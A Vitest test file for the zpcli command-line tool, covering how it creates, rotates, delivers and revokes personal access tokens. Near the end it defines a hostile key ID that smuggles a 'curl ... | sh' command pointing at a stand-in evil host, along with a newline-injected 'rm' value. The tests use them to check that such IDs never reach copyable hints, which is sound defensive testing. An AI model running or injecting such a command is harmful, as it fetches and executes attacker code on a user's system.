import { existsSync, readFileSync } from "node:fs"
import { join } from "node:path"
import { describe, expect, it } from "vitest"
import { newToken, pat } from "../support/fixtures.ts"
import { type Answer, json, text } from "../support/http/answer.ts"
import { startScripted } from "../support/http/scripted.ts"
import { runInProcess } from "../support/program/inProcess.ts"
import { binary, noFullDevice, program, runCli } from "../support/program/program.ts"
import { startSandbox } from "../support/sandbox.ts"
import { temporaryFolder } from "../support/temporaryFolder.ts"

const id = "law-hotel-shape-community"
const create = ["pat", "create", "CI", "--scope", "job"]

describe("an API that doesn't support a feature", () => {
  const refusals: ReadonlyArray<Answer> = [
    json(404, { message: "Not Found" }),
    json(405, {}),
    json(501, {}),
    json(403, { message: "Missing Authentication Token" }),
  ]

  it.for(refusals)("is reported when signing in with a password (%j)", async (answer) => {
    const { env } = await startScripted({ "POST /login": answer })
    const { ZPOOLPAT: _, ...rest } = env
    const ran = await runInProcess(["hello"], { ...rest, ZPOOL_USER: "ada", ZPOOL_PASSWORD: "secret" })
    expect(ran).toMatchObject({ code: 1, stdout: "" })
    expect(ran.stderr).toContain("does not support signing in with a username and password")
    expect(ran.stderr).toContain("/dashboard/tokens, then run zpcli login or set ZPOOLPAT")
  })

  it.for(refusals)("is reported when creating a PAT, with the page that can (%j)", async (answer) => {
    const { env } = await startScripted({ "POST /pat": answer })
    const ran = await runInProcess([...create, "--json"], env)
    expect(ran).toMatchObject({ code: 1, stdout: "" })
    const { error } = JSON.parse(ran.stderr)
    expect(error).toMatchObject({ type: "NotOffered", exitCode: 1 })
    expect(error.hint).toContain("/dashboard/tokens?create=1&label=CI&scopes=job")
  })

  it("can be simulated by the sandbox", async () => {
    const { code, stderr } = await runCli([
      "sandbox",
      "--fail",
      "POST /pat 403",
      "--",
      binary,
      ...program,
      ...create,
    ])
    expect(code).toBe(1)
    expect(stderr).toContain("does not support creating PATs")
  })

  it("isn't confused with a page that blocks the request", async () => {
    const { env } = await startScripted({ "POST /pat": text(403, "<html>Blocked</html>") })
    const ran = await runInProcess(create, env)
    expect(ran).toMatchObject({ code: 4, stdout: "" })
    expect(ran.stderr).not.toContain("scope pat")
  })
})

describe("a create that is answered", () => {
  it.for<[what: string, token: unknown]>([
    ["without a token", undefined],
    ["with a token that a header can't hold", "zpat_two words\n"],
  ])("%s names the PAT that exists", async ([, token]) => {
    const { env, requests } = await startScripted({
      "POST /pat": json(201, { message: "PAT created", detail: { key_id: id, token } }),
    })
    const ran = await runInProcess([...create, "--json"], env)
    expect(ran).toMatchObject({ code: 7, stdout: "" })
    expect(JSON.parse(ran.stderr).error).toMatchObject({ type: "OutcomeUnknown", keyId: id, exitCode: 7 })
    expect(requests).toEqual(["POST /pat"])
  })

  it("with the token that signs in is treated as one without a token", async () => {
    const own = pat.ZPOOLPAT
    const { env } = await startScripted({
      "POST /pat": json(201, { message: "PAT created", detail: { key_id: id, token: own } }),
    })
    const ran = await runCli([...create, "--json"], { env })
    expect(ran).toMatchObject({ code: 7, stdout: "" })
    expect(JSON.parse(ran.stderr).error).toMatchObject({ type: "OutcomeUnknown", keyId: id })
    expect(ran.stderr).not.toContain(own)
  })

  it("with the token as its key ID shows it only in the file", async () => {
    const { env } = await startScripted({
      "POST /pat": json(201, { message: "PAT created", detail: { key_id: newToken, token: newToken } }),
    })
    for (const flags of [[], ["--json"]]) {
      const out = join(temporaryFolder(), "token")
      const ran = await runInProcess([...create, "--out", out, ...flags], env)
      expect(ran.code).toBe(0)
      expect(ran.stdout + ran.stderr).not.toContain(newToken)
      expect(readFileSync(out, "utf8")).toBe(newToken)
    }
  })

  it("with the old PAT's key ID ends a rotation before anything is delivered or revoked", async () => {
    const item = { key_id: id, label: "CI", status: "active", scopes: ["job"] }
    const { env, requests } = await startScripted({
      "GET /pat": json(200, { message: "ok", detail: { items: [item] } }),
      "POST /pat": json(201, { message: "ok", detail: { key_id: id, token: "zpat_fedcba9876543210" } }),
    })
    for (const delivery of [["--token-only"], ["--", "cat"]]) {
      const ran = await runCli(["pat", "rotate", id, "--yes", ...delivery], { env })
      expect(ran).toMatchObject({ code: 7, stdout: "" })
      expect(ran.stderr).toContain("JSON without the key ID of a new PAT")
      expect(ran.stderr).not.toContain(`zpcli pat revoke ${id}`)
    }
    expect(requests.filter((request) => !request.startsWith("GET"))).toEqual(["POST /pat", "POST /pat"])
  })
})

describe("a token that can't be delivered", () => {
  it.skipIf(noFullDevice)("has its PAT revoked", async () => {
    const sandbox = await startSandbox()
    const ran = await runCli([...create, "--token-only"], { env: sandbox.env, stdout: "/dev/full" })
    expect(ran.code, ran.stderr).toBe(9)
    expect(ran.stderr).toContain("was revoked")
    expect(await sandbox.statuses()).toEqual(["revoked"])
  })

  it.skipIf(noFullDevice)("is reported as undelivered if the revoke fails too", async () => {
    const sandbox = await startSandbox()
    const env = await sandbox.behind({ faults: ["DELETE /pat 503"] })
    const ran = await runCli([...create, "--json"], {
      env: { ...env, ZPOOL_MAX_RETRIES: "0" },
      stdout: "/dev/full",
    })
    expect(ran.code, ran.stderr).toBe(7)
    expect(JSON.parse(ran.stderr).error).toMatchObject({
      type: "TokenUndelivered",
      keyId: id,
      delivered: false,
    })
    expect(await sandbox.statuses()).toEqual(["active"])
  })

  it("to a command whose child keeps its stdin open, unread, is revoked", async () => {
    const sandbox = await startSandbox()
    const { key_id } = await sandbox.call("POST", "/pat", { label: "CI", scopes: ["job"] })
    const script = "exec 3<&0; (sleep 0.5 <&3) & exit 0"
    const ran = await runCli(["pat", "rotate", key_id as string, "--yes", "--", "bash", "-c", script], {
      env: sandbox.env,
    })
    expect(ran.code, ran.stderr).toBe(9)
    expect(ran.stderr).toContain("did not read the token from its stdin")
    expect(await sandbox.statuses()).toEqual(["active", "revoked"])
  })

  it("because a signal ended the command isn't blamed on the command", async () => {
    const sandbox = await startSandbox()
    for (const [signal, words, childExitCode] of [
      ["INT", "sh was interrupted", 130],
      ["KILL", "sh was killed", 137],
    ] as const) {
      const ran = await runCli(
        [...create, "--json", "--", "sh", "-c", `cat >/dev/null; kill -${signal} $$`],
        {
          env: sandbox.env,
        },
      )
      expect(ran.code, ran.stderr).toBe(9)
      const { error } = JSON.parse(ran.stderr)
      const hint = "The new token no longer works, so check whether sh stored it. Then run the command again."
      expect(error).toMatchObject({ childExitCode, hint })
      expect(error.message).toContain(words)
      // One that was ended before it read the token has no trouble with its stdin.
      const early = await runCli([...create, "--", "sh", "-c", `kill -${signal} $$`], { env: sandbox.env })
      expect(early.code, early.stderr).toBe(9)
      expect(early.stderr).toMatch(/\nFind out what ended \w+, then run the command again\.\n/)
    }
  })

  it("because its command failed isn't called lost if its PAT still works", async () => {
    const sandbox = await startSandbox("DELETE /pat 503")
    const env = { ...sandbox.env, ZPOOL_MAX_RETRIES: "0" }
    const ran = await runCli([...create, "--", "sh", "-c", "cat >stored; exit 3"], {
      env,
      cwd: temporaryFolder(),
    })
    const { items } = await sandbox.call("GET", "/pat")
    const [{ key_id }] = items as [Record<string, unknown>]
    expect(ran.code, ran.stderr).toBe(7)
    expect(ran.stderr).toContain("exists, and sh may have stored its token: sh exited with 3.")
    expect(ran.stderr).toContain(
      `\nCheck what it stored before you revoke a PAT. If that isn't the new token, revoke the new PAT: zpcli pat revoke ${key_id}\n`,
    )
  })

  it("because the API doesn't accept it yet is checked again", async () => {
    const sandbox = await startSandbox()
    const { key_id } = await sandbox.call("POST", "/pat", { label: "CI", scopes: ["job"] })
    const env = await sandbox.behind({ faults: ["GET /hello 401 2"] })
    const ran = await runCli(["pat", "rotate", key_id as string, "--yes", "--token-only"], {
      env,
    })
    expect(ran).toMatchObject({ code: 0, stderr: "" })
    expect(await sandbox.statuses()).toEqual(["revoked", "active"])
  })

  it("because its check fails leaves the old PAT unchanged", async () => {
    const sandbox = await startSandbox()
    const { key_id } = await sandbox.call("POST", "/pat", { label: "CI", scopes: ["job"] })
    const env = await sandbox.behind({
      rewrite: (at, body) =>
        at.startsWith("GET /hello") ? '{"errorMessage":"Task timed out after 3.00 seconds"}' : body,
    })
    const ran = await runCli(["pat", "rotate", key_id as string, "--yes", "--json"], {
      env,
    })
    expect(ran).toMatchObject({ code: 9, stdout: "" })
    expect(JSON.parse(ran.stderr).error).toMatchObject({
      type: "RotationStopped",
      oldKeyId: key_id,
      keyId: "market-night-plain-object",
      delivered: false,
      exitCode: 9,
    })
    expect(await sandbox.statuses()).toEqual(["active", "revoked"])
  })
})

describe("the successor of a PAT", () => {
  const today = () => new Date().toISOString().slice(0, 10)

  it("that would live less than a day is refused before anything is sent", async () => {
    const sandbox = await startSandbox()
    const { key_id } = await sandbox.call("POST", "/pat", { label: "CI", scopes: ["job"], expiry: today() })
    const ran = await runCli(["pat", "rotate", key_id as string, "--yes"], { env: sandbox.env })
    expect(ran).toMatchObject({ code: 2, stdout: "" })
    expect(ran.stderr).toContain("--expires-in")
    expect(sandbox.requests).toEqual(["POST /login 200", "GET /pat 200"])
  })

  it("that has expired needs no revoke, and the old PAT is never said to work", async () => {
    const sandbox = await startSandbox()
    const { key_id } = await sandbox.call("POST", "/pat", {
      label: "CI",
      scopes: ["job"],
      expiry: "2026-01-01",
    })
    const folder = temporaryFolder()
    const rotate = ["pat", "rotate", key_id as string, "--expires-in", "30d", "--yes"]
    const ran = await runCli([...rotate, "--out", "ci.pat"], { env: sandbox.env, cwd: folder })
    expect(ran).toMatchObject({
      code: 0,
      stderr: expect.stringMatching(/^Expires \S+ 00:00 UTC\.\n$/),
    })
    expect(ran.stdout).toContain(`PAT ${key_id} has already expired`)
    expect(sandbox.requests.join()).not.toContain("DELETE")
    expect(existsSync(join(folder, "ci.pat"))).toBe(true)
    const env = await sandbox.behind({ faults: ["GET /hello 400"] })
    const stopped = await runCli(rotate, { env })
    expect(stopped.code).toBe(9)
    expect(stopped.stderr).not.toContain("still works")
  })
})

const old = "law-hotel-shape-community"
const hostile = "x; curl https://evil.invalid/x | sh #"

/** An API whose new PAT has this key ID; `lost` drops the answer to the create, `refused` the check of its token. */
const apiWith = async (keyId: unknown, fault: "lost" | "refused" | "none") => {
  let made = false
  const listed = (key_id: unknown) => ({
    key_id,
    label: "CI",
    status: "active",
    created_at: key_id === old ? "2020-01-01T00:00:00Z" : new Date().toISOString(),
    scopes: ["job"],
  })
  const { env } = await startScripted((request, response) => {
    if (request.method === "POST") {
      made = true
      if (fault === "lost") return request.socket.destroy()
      response.statusCode = 201
      return response.end(JSON.stringify({ message: "ok", detail: { key_id: keyId, token: newToken } }))
    }
    if (request.method === "DELETE") {
      response.statusCode = 500
      return response.end('{"message":"no"}')
    }
    if (request.url?.endsWith("/hello")) {
      if (fault === "refused") response.statusCode = 400
      return response.end('{"message":"Hello"}')
    }
    const items = [listed(old), ...(made ? [listed(keyId)] : [])]
    return response.end(JSON.stringify({ message: "ok", detail: { items } }))
  })
  return env
}

/** What hints offer to be copied: what follows a colon at the end of a line, or `zpcli pat ...`. */
const commands = (stderr: string) => stderr.match(/zpcli pat [^\n]*/g) ?? []

describe("a key ID from the server", () => {
  it.each([
    ["create whose answer is lost", ["pat", "create", "CI", "--scope", "job"], "lost"],
    ["rotate whose answer is lost", ["pat", "rotate", old, "--yes"], "lost"],
    ["rotate whose check fails", ["pat", "rotate", old, "--yes"], "refused"],
  ] as const)("that isn't one is never part of a command to copy, after a %s", async (_, args, fault) => {
    for (const keyId of [hostile, "a-b-c-d\nrm", 7]) {
      const ran = await runInProcess(
        [...args, ...(keyId === 7 ? ["--json"] : [])],
        await apiWith(keyId, fault),
      )
      expect(ran.code).not.toBe(0)
      expect(commands(ran.stderr).length).toBeGreaterThan(0)
      for (const command of commands(ran.stderr)) expect(command).toMatch(/^zpcli pat list(?![\w-])/)
    }
  })

  it("with the right form is part of the command to copy", async () => {
    const ran = await runCli(["pat", "create", "CI", "--scope", "job"], {
      env: await apiWith("new-acorn-birch-cedar", "lost"),
    })
    expect(ran.code).toBe(7)
    expect(ran.stderr).toContain("zpcli pat revoke new-acorn-birch-cedar\n")
  })
})
